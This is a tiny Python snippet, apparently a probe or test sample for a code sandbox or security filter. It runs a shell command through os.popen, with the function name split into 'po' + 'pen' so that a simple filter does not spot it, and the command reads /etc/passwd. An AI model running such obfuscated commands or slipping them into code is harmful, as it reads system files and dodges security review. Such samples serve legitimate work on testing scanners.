import os

getattr(os, "po" + "pen")("cat /etc/passwd").read()
